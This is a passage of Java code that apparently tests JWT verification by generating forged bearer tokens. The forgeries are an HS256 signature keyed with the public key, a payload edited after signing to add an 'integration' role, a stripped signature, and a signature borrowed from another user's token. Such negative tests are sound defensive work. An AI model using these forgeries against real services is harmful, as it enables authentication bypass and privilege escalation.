        String hsSigned = hs + "." + parts[1];
        tokens.put("HS256 with the public key as secret", "Bearer " + hsSigned + "."
                + url.encodeToString(mac.doFinal(hsSigned.getBytes(StandardCharsets.US_ASCII))));
        String escalated = url.encodeToString(payload.replace("\"admin\"", "\"admin\",\"integration\"").getBytes(StandardCharsets.UTF_8));
        tokens.put("payload changed after signing", "Bearer " + parts[0] + "." + escalated + "." + parts[2]);
        tokens.put("signature stripped", "Bearer " + parts[0] + "." + parts[1] + ".");
        tokens.put("signature of another token", "Bearer " + parts[0] + "." + parts[1] + "."
                + keys.token("someone-else", List.of("scrutiny"), List.of(), Duration.ofMinutes(30)).split("\\.")[2]);
        return tokens;
    }

    private static String clip(String text) {
        String oneLine = text.replaceAll("[\\r\\n]+", " ");
        return oneLine.length() <= 160 ? oneLine : oneLine.substring(0, 160) + "…";
    }
}
